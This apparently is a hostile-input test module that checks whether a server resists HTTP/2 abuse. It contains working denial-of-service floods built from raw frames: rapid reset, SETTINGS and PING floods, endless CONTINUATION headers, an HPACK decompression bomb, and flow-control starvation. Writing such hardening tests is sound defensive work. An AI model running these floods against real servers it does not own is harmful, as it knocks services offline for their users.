"""Attacks with HTTP/2: frames that cost their sender nothing, before any key is asked for."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable

from hpack import Encoder

from tests.hostile.attack import Target, attack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PROTOCOL_ERROR, ENHANCE_YOUR_CALM = 1, 11
TOGETHER = 4_000
FIELDS = [(":method", "POST"), (":path", "/v0/topics/http2/diff"), (":scheme", "http"), (":authority", "localhost")]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


class Road:
    """One HTTP/2 connection that sends what it is given, and notes why the server ended it."""

    def __init__(self, target: Target, settings: bytes = b"") -> None:
        self.connection = target.connect()
        self.connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.goaway: int | None = None
        self._received = b""
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def send(self, data: bytes) -> bool:
        """Send; False if the server has ended the connection."""
        try:
            self.connection.sendall(data)
        except OSError:
            self._reader.join(5)
            return False
        return True

    def close(self) -> None:
        """End the connection."""
        self.connection.close()

    def _read(self) -> None:
        try:
            while chunk := self.connection.recv(1 << 16):
                self._received += chunk
                while len(self._received) >= 9 and len(self._received) >= 9 + int.from_bytes(self._received[:3]):
                    size = 9 + int.from_bytes(self._received[:3])
                    if self._received[3] == GOAWAY:
                        self.goaway = int.from_bytes(self._received[13:17])
                    self._received = self._received[size:]
        except OSError:
            pass


def flood(target: Target, next_frames: Callable[[Encoder, int], bytes], code: int | None = ENHANCE_YOUR_CALM) -> None:
    """Send frames as fast as the server takes them; where it ends the connection, with `code`, come again."""
    ends = time.monotonic() + target.seconds
    goaways: list[int | None] = []
    while time.monotonic() < ends:
        road, encoder, stream = Road(target), Encoder(), 1
        while time.monotonic() < ends and road.send(next_frames(encoder, stream)):
            stream += 2 * TOGETHER
        goaways.append(road.goaway)
        road.close()
    assert code is None or code in goaways, f"the connections ended with {goaways[:5]}"


@attack("http2-rapid-reset")
def rapid_reset(target: Target) -> None:
    """Opens streams and resets each at once."""

    def pairs(encoder: Encoder, stream: int) -> bytes:
        head = encoder.encode(FIELDS)
        frames = []
        for one in range(stream, stream + 2 * TOGETHER, 2):
            frames.append(frame(HEADERS, END_HEADERS, one, head))
            frames.append(frame(RST_STREAM, 0, one, (8).to_bytes(4)))
            head = encoder.encode(FIELDS)
        return b"".join(frames)

    flood(target, pairs)


@attack("http2-settings")
def settings_flood(target: Target) -> None:
    """Sends SETTINGS, each of which has to be acknowledged."""
    flood(target, lambda encoder, stream: frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * TOGETHER)


@attack("http2-ping")
def ping_flood(target: Target) -> None:
    """Sends PING, each of which has to be answered."""
    flood(target, lambda encoder, stream: frame(PING, 0, 0, b"12345678") * TOGETHER)


@attack("http2-priority", in_slice=False)
def priority_flood(target: Target) -> None:
    """Sends PRIORITY for streams that do not exist."""
    flood(target, lambda encoder, stream: frame(PRIORITY, 0, 3, b"\0\0\0\0\1") * TOGETHER)


@attack("http2-window-update", in_slice=False)
def window_update_flood(target: Target) -> None:
    """Widens the window of the connection byte by byte."""
    flood(target, lambda encoder, stream: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * TOGETHER)


@attack("http2-empty-data")
def empty_data_flood(target: Target) -> None:
    """Sends a body that is made of empty DATA frames."""

    def empty(encoder: Encoder, stream: int) -> bytes:
        json = [*FIELDS, ("content-type", "application/json")]
        begin = frame(HEADERS, END_HEADERS, 1, encoder.encode(json)) if stream == 1 else b""
        return begin + frame(DATA, 0, 1) * TOGETHER

    flood(target, empty)


@attack("http2-continuation", in_slice=False)
def continuation_flood(target: Target) -> None:
    """Sends a head that never ends, in CONTINUATION frames with a byte each."""

    def endless(encoder: Encoder, stream: int) -> bytes:
        begin = frame(HEADERS, 0, 1, encoder.encode(FIELDS)) if stream == 1 else b""
        return begin + frame(CONTINUATION, 0, 1, b"\x82") * 8

    flood(target, endless, PROTOCOL_ERROR)


@attack("http2-header-bomb")
def header_bomb(target: Target) -> None:
    """Sends heads that are as costly to decompress as their size allows."""
    ends = time.monotonic() + target.seconds
    while time.monotonic() < ends:
        road, encoder = Road(target), Encoder()
        head = encoder.encode([*FIELDS, ("x", "a" * 45_000)], huffman=True)
        first, rest = head[:16_000], head[16_000:]
        for stream in range(1, 1000, 2):
            block = frame(HEADERS, END_STREAM, stream, first) + frame(CONTINUATION, END_HEADERS, stream, rest)
            if time.monotonic() > ends or not road.send(block):
                break
        road.close()


@attack("http2-many-connections", in_slice=False)
def many_connections(target: Target) -> None:
    """Floods with PING on 50 connections at a time, each opened again when it is closed."""
    ping = frame(PING, 0, 0, b"12345678") * TOGETHER
    threads = [
        threading.Thread(target=flood, args=(target, lambda encoder, stream: ping, None), daemon=True)
        for _ in range(50)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack("http2-unread-answers", settings={}, in_slice=True)
def unread_answers(target: Target) -> None:
    """Asks for 100 diffs of 8 MiB on each of 4 connections with a window of 0, and reads none."""
    _fill(target, 8)
    body = b'{"from_seq":0,"limit":1000,"max_batch_bytes":8388608}'
    roads = []
    for _ in range(4):
        road, encoder = Road(target, b"\0\4\0\0\0\0"), Encoder()
        fields = [*FIELDS, ("content-type", "application/json")]
        for stream in range(1, 200, 2):
            head = frame(HEADERS, END_HEADERS, stream, encoder.encode(fields))
            road.send(head + frame(DATA, END_STREAM, stream, body))
        roads.append(road)
    time.sleep(max(1.0, target.seconds))
    for road in roads:
        road.close()


@attack("http2-window-games", in_slice=False)
def window_games(target: Target) -> None:
    """Asks for large answers on 100 streams, and takes them a byte at a time while the window jumps up and down."""
    _fill(target, 4)
    body = b'{"from_seq":0,"limit":1000,"max_batch_bytes":8388608}'
    ends = time.monotonic() + target.seconds
    while time.monotonic() < ends:
        road, encoder = Road(target, b"\0\4\0\0\0\1"), Encoder()
        fields = [*FIELDS, ("content-type", "application/json")]
        for stream in range(1, 200, 2):
            road.send(
                frame(HEADERS, END_HEADERS, stream, encoder.encode(fields)) + frame(DATA, END_STREAM, stream, body)
            )
        more = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 200, 2))
        jump = frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
        for _ in range(50):
            if time.monotonic() > ends or not road.send(more + jump):
                break
        road.close()


def _fill(target: Target, mib: int) -> None:
    record = b'{"records":[{"data":"%b"}]}' % (b"x" * 1_000_000)
    for _ in range(mib):
        answer = target.request("POST", "/v0/topics/http2", record, {"Content-Type": "application/json"})
        assert answer.status in (200, 201), answer.body[:200]
